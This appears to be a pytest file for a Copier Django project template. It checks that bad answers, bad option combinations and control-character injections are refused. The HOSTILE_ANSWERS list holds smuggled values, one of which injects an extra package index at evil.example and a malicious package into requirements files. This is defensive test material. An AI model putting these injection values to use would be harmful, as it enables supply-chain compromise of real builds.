"""Bad answers are refused by `copier copy` with a message that names the
question and what is allowed, and nothing is rendered."""

import re

import pytest
import yaml

from support.render import TEMPLATE_ROOT, render

BAD_ANSWERS = [
    ("project_slug", "OBCMS", "must start with a lower-case letter"),
    ("project_slug", "1obcms", "must start with a lower-case letter"),
    ("project_slug", "obcms-", "must not end with a hyphen"),
    ("project_name", "   ", "must not be empty"),
    ("django_package", "class", "is a Python keyword"),
    ("django_package", "json", "would shadow the standard library module"),
    ("django_package", "celery", "would shadow a package the project uses"),
    ("django_package", "obc-management", "is not a lower-case Python identifier"),
    ("ops_app", "obc_management", "is already the django_package"),
    ("ops_app", "django", "would shadow a package the project uses"),
    ("domain_name", "https://obcms.gov.ph", "has a scheme"),
    ("domain_name", "obcms.gov.ph:8443", "has a port"),
    ("domain_name", "obcms.gov.ph/app", "has a path"),
    ("domain_name", "OBCMS.gov.ph", "has upper-case letters"),
    ("domain_name", "*.obcms.gov.ph", "is a wildcard"),
    ("domain_name", "obcms_.gov.ph", "is not a valid host name"),
    ("extra_domains", "www.obcms.gov.ph", "must be a YAML list"),
    ("extra_domains", "[obcms.gov.ph]", "is already the main domain_name"),
    ("extra_domains", "[www.obcms.gov.ph, http://x.gov.ph]", "item 2"),
    ("admin_email", "admin-at-obcms.gov.ph", "is not an e-mail address"),
    ("time_zone", "Asia/Manilla", "is not an IANA time zone name"),
    ("deploy_target", "nomad", "'nomad' is not in ['compose', 'coolify', 'swarm', 'kubernetes']"),
    ("postgres_version", "14", "'14' is not in ['15', '16', '17', '18']"),
    ("db_pooling", "pgpool", "is not in ['persistent', 'pgbouncer', 'native']"),
    ("log_format", "xml", "is not in ['text', 'json']"),
    ("max_request_body_mb", "0", "must be between 1 and 10240"),
]


# Answers that are fine alone but not together: a target that runs the
# application on several hosts, and what it cannot carry there. The message
# names both questions.
BAD_COMBINATIONS = [
    ("swarm", "media_storage", "volume", "answer s3 (a bucket every host reaches), or deploy_target compose"),
    ("kubernetes", "media_storage", "volume", "volume keeps uploads on one host, and deploy_target kubernetes"),
    ("swarm", "db_pooling", "pgbouncer", "pgbouncer is not available with deploy_target swarm yet"),
    ("swarm", "use_flower", "true", "Flower is not available with deploy_target swarm yet"),
    ("kubernetes", "use_monitoring", "true", "answer false for deploy_target kubernetes"),
]


def assert_refused(result, target, question, reason):
    assert result.returncode != 0
    last_line = result.stderr.strip().splitlines()[-1]
    assert f"'{question}'" in last_line, last_line
    assert reason in last_line, last_line
    assert not target.exists()


# Hostile answers: a line break (CR, LF, U+2028/2029, NEL), a tab, a NUL or an
# invisible format character would split or hide a line of a rendered file.
# The first is the attack itself: a project_name that, written into the
# first comment of requirements/base.txt and .env.example, adds a package
# index and a package, and a variable to .env.
CONTROL = "has the control or invisible character"
HOSTILE_ANSWERS = [
    (
        "project_name",
        "OBCMS\r--extra-index-url https://evil.example/simple\revil-package==1.0",
        f"{CONTROL} '\\r' at position 6",
    ),
    ("project_name", "OBCMS\u2028DEBUG=1", f"{CONTROL} '\\u2028' at position 6"),
    ("project_name", "OBCMS\u2029x", f"{CONTROL} '\\u2029'"),
    ("project_name", "OBCMS\x85x", f"{CONTROL} '\\x85'"),
    ("project_name", "OBCMS\tx", f"{CONTROL} '\\t'"),
    ("project_name", "OBCMS\x00x", f"{CONTROL} '\\x00'"),
    ("project_name", "OBCMS \u202egnp.exe", f"{CONTROL} '\\u202e'"),
    ("project_name", "OBCMS\n", f"{CONTROL} '\\n' at position 6"),
    # A trailing newline passes a pattern anchored with $: each question's
    # pattern ends in \\Z, and the character check comes first.
    ("project_slug", "obcms\n", f"{CONTROL} '\\n'"),
    ("django_package", "obc_management\n", f"{CONTROL} '\\n'"),
    ("ops_app", "ops\n", f"{CONTROL} '\\n'"),
    ("domain_name", "obcms.gov.ph\n", f"{CONTROL} '\\n'"),
    ("extra_domains", ["www.obcms.gov.ph\n"], f"item 1: {CONTROL} '\\n'"),
    ("admin_email", "admin@obcms.gov.ph\n", f"{CONTROL} '\\n'"),
    ("time_zone", "Asia/Manila\r", f"{CONTROL} '\\r'"),
]


@pytest.mark.parametrize(("question", "value", "reason"), HOSTILE_ANSWERS, ids=lambda v: ascii(v)[:30])
def test_control_characters_are_refused_and_nothing_is_rendered(question, value, reason, tmp_path):
    """From an answer file, as CI renders (a command line cannot carry a NUL)."""
    answers = tmp_path / "answers.yml"
    answers.write_text(yaml.safe_dump({question: value}))
    assert yaml.safe_load(answers.read_text()) == {question: value}, "the file carries the characters"
    target = tmp_path / "out"
    result = render(target, data_file=answers, cli=True)
    assert result.returncode != 0
    last_line = result.stderr.strip().splitlines()[-1]
    assert f"'{question}'" in last_line, last_line
    assert reason in last_line, last_line
    assert not target.exists()


@pytest.mark.parametrize(("question", "value", "reason"), BAD_ANSWERS, ids=lambda v: str(v)[:30])
def test_bad_answer_is_refused_and_nothing_is_rendered(question, value, reason, tmp_path):
    target = tmp_path / "out"
    result = render(target, {question: value}, cli=True)
    assert_refused(result, target, question, reason)


@pytest.mark.parametrize(("deploy_target", "question", "value", "reason"), BAD_COMBINATIONS, ids=lambda v: str(v)[:30])
def test_a_combination_a_multi_host_target_cannot_carry_is_refused(deploy_target, question, value, reason, tmp_path):
    target = tmp_path / "out"
    result = render(target, {"deploy_target": deploy_target, question: value}, cli=True)
    assert_refused(result, target, question, reason)


def test_every_answer_pattern_ends_at_the_very_end():
    """`$` also matches before a trailing newline, so the patterns end in
    `\\Z`. The control-character check refuses that newline first: only
    this test sees a pattern that goes back to `$`."""
    sources = [TEMPLATE_ROOT / "copier.yml", *sorted((TEMPLATE_ROOT / "includes").glob("*.jinja"))]
    text = "\n".join(path.read_text() for path in sources)
    patterns = re.findall(r'regex_search\(("\^.*?)\)\s*-?%\}', text)
    assert len(patterns) == text.count('regex_search("^') >= 5
    assert [pattern for pattern in patterns if not pattern.endswith('\\\\Z"')] == []
